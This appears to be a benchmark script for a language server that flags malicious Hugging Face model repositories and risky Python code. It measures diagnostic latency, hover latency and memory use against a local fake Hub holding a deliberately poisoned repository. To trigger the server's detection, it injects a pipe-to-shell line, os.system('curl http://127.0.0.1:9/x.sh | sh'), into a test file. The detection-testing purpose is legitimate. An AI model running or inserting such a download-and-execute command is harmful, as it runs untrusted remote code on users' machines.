"""Language-server latency and memory: ``.venv/bin/python bench/lsp/run.py [--edits N] [--out FILE]``.

Starts ``malhug lsp`` (a real subprocess over stdio) against the fake Hub on 127.0.0.1, opens a
2,000-line Python file that references a clean and a poisoned repository, waits until both scans
are in the verdict cache (warm), then measures:

* didChange -> publishDiagnostics for that version (each edit changes one line; debounce 0 so the
  number is the server's own work, not the configured typing delay);
* hover on a repository id (request -> response);
* the server's resident memory when idle (VmRSS after start-up and after the run).
"""

from __future__ import annotations

import argparse
import asyncio
import os
import platform
import statistics
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from lsprotocol import types  # noqa: E402

from tests.fakehub import FakeHub  # noqa: E402
from tests.server.conftest import evil_pickle, safetensors_bytes  # noqa: E402
from tests.server.harness import change_doc, open_doc, server_env, start_client, stop_client, wait_for  # noqa: E402

HEADER = """import os
import math
import torch
from transformers import AutoModel, AutoTokenizer

MODEL = "org/clean"
tokenizer = AutoTokenizer.from_pretrained(MODEL)
model = AutoModel.from_pretrained("org/evil")
"""

BLOCK = '''

def step_{n}(batch, lr=0.001):
    """Training step {n}."""
    total = 0.0
    for i, item in enumerate(batch):
        value = math.sqrt(abs(item)) * lr
        if value > 1.0:
            total += value / (i + 1)
        else:
            total -= value
    path = os.path.join("runs", "step_{n}.txt")
    return total, path
'''


def make_text(lines: int) -> str:
    parts = [HEADER]
    n = 0
    while sum(p.count("\n") for p in parts) < lines:
        parts.append(BLOCK.replace("{n}", str(n)))
        n += 1
    return "".join(parts)


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def children(pid: int) -> list[int]:
    out = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        text = (task / "children").read_text().split()
        for child in map(int, text):
            out += [child, *children(child)]
    return out


def pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(round(q * (len(ordered) - 1))))]


async def bench(edits: int, hovers: int) -> dict[str, float]:
    with tempfile.TemporaryDirectory(prefix="malhug-bench-") as tmp_name, FakeHub(Path(tmp_name) / "hub") as hub:
        tmp = Path(tmp_name)
        hub.repo("org/clean").commit({"config.json": "{}", "model.safetensors": safetensors_bytes()})
        evil = hub.repo("org/evil")
        evil.commit({"config.json": "{}", "model.safetensors": safetensors_bytes()})
        evil.commit({"pytorch_model.bin": evil_pickle()})
        # train.py is the user's own code: the live script analysis (whose latency is measured below
        # too) runs on it only with analyzeAllScripts, the setting's worst case for latency.
        client = await start_client(
            tmp,
            env=server_env(tmp, HF_ENDPOINT=hub.endpoint),
            init_options={"debounceMs": 0, "logLevel": "warning", "analyzeAllScripts": True},
        )
        pid = client._server.pid  # type: ignore[union-attr]
        await asyncio.sleep(1.0)
        rss_start = rss_mb(pid)
        text = make_text(2000)
        uri = open_doc(client, tmp / "ws" / "train.py", text)
        await wait_for(
            lambda: any(d.code == "MH710" for d in client.diagnostics.get(uri, [])), timeout=60, what="warm cache"
        )
        lines = text.split("\n")
        target = len(lines) // 2
        latencies = []
        for version in range(2, edits + 2):
            lines[target] = f"    # edit {version}"
            sent = time.monotonic()
            change_doc(client, uri, "\n".join(lines), version)
            published = await wait_for(
                lambda v=version: [p for p in client.for_uri(uri) if p.version == v], timeout=10, what=f"v{version}"
            )
            latencies.append((published[0].at - sent) * 1000)
            assert any(d.code == "MH710" for d in published[0].diagnostics)
            await asyncio.sleep(0.05)
        # The slow phase: a payload typed into the file, until the script analyzer's finding is published.
        version = edits + 2
        payload_line = next(k for k in range(target, len(lines)) if lines[k].startswith("    path = os.path.join"))
        lines[payload_line] = "    os.system('curl http://127.0.0.1:9/x.sh | sh')"
        sent = time.monotonic()
        change_doc(client, uri, "\n".join(lines), version)

        def script_finding() -> list[object]:
            return [
                p
                for p in client.for_uri(uri)
                if p.version == version and any(str(d.code).startswith("MH5") for d in p.diagnostics)
            ]

        published_script = await wait_for(script_finding, timeout=30, what="the script analyzer's finding")
        script_ms = (published_script[0].at - sent) * 1000  # type: ignore[attr-defined]
        hover_ms = []
        line = next(i for i, t in enumerate(lines) if '"org/evil"' in t)
        col = lines[line].index('"org/evil"') + 3
        for _ in range(hovers):
            sent = time.monotonic()
            result = await client.text_document_hover_async(
                types.HoverParams(
                    text_document=types.TextDocumentIdentifier(uri=uri),
                    position=types.Position(line=line, character=col),
                )
            )
            hover_ms.append((time.monotonic() - sent) * 1000)
            assert result is not None and "malicious" in result.contents.value  # type: ignore[union-attr]
        await asyncio.sleep(1.0)
        rss_end = rss_mb(pid)
        workers = sum(rss_mb(child) for child in children(pid))
        await stop_client(client)
    return {
        "edits": edits,
        "lines": len(lines),
        "diag_p50": statistics.median(latencies),
        "diag_p95": pct(latencies, 0.95),
        "diag_max": max(latencies),
        "hovers": hovers,
        "hover_p50": statistics.median(hover_ms),
        "hover_p95": pct(hover_ms, 0.95),
        "rss_start": rss_start,
        "rss_end": rss_end,
        "rss_workers": workers,
        "script_ms": script_ms,
    }


def render(r: dict[str, float]) -> str:
    def ok(value: float, target: float) -> str:
        return "meets" if value < target else "MISSES"

    return "\n".join(
        [
            "# Language-server benchmark",
            "",
            f"Generated by `bench/lsp/run.py` on {platform.machine()} {platform.python_implementation()} "
            f"{platform.python_version()}, {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}; shared 2-core machine "
            f"(load average {os.getloadavg()[0]:.1f} at the end of the run).",
            "",
            "| measure | p50 | p95 | target |",
            "|---|---|---|---|",
            f"| didChange -> publishDiagnostics, warm cache, {r['lines']:.0f}-line file, {r['edits']:.0f} edits "
            f"| {r['diag_p50']:.1f} ms | {r['diag_p95']:.1f} ms | p95 < 50 ms ({ok(r['diag_p95'], 50)}) |",
            f"| hover on a repo id, {r['hovers']:.0f} requests | {r['hover_p50']:.1f} ms | {r['hover_p95']:.1f} ms "
            f"| p95 < 30 ms ({ok(r['hover_p95'], 30)}) |",
            "",
            f"Idle RSS of the server: {r['rss_start']:.0f} MB after start-up, {r['rss_end']:.0f} MB after the run "
            f"(target < 150 MB: {ok(r['rss_end'], 150)}). The script analyzer's worker process (libcst, started on "
            f"the first Python document) adds {r['rss_workers']:.0f} MB.",
            "",
            f"Worst edit: {r['diag_max']:.1f} ms. Debounce was set to 0 ms for the measurement; with the default "
            "`malhug.debounceMs` (300 ms) add that delay after the last keystroke. The measured publish is the fast "
            "phase (references, risky loads, cached verdicts, previous script findings shifted to the new lines); "
            "the script analyzer re-runs in its worker 400 ms after typing stops and publishes again: a payload "
            f"typed into the file (`os.system('curl … | sh')`) was reported {r['script_ms']:.0f} ms after the edit.",
            "",
        ]
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--edits", type=int, default=60)
    parser.add_argument("--hovers", type=int, default=60)
    parser.add_argument("--out", help="write the Markdown result here (e.g. bench/lsp/RESULTS.md)")
    args = parser.parse_args()
    result = asyncio.run(bench(args.edits, args.hovers))
    text = render(result)
    print(text)
    if args.out:
        Path(args.out).write_text(text, encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
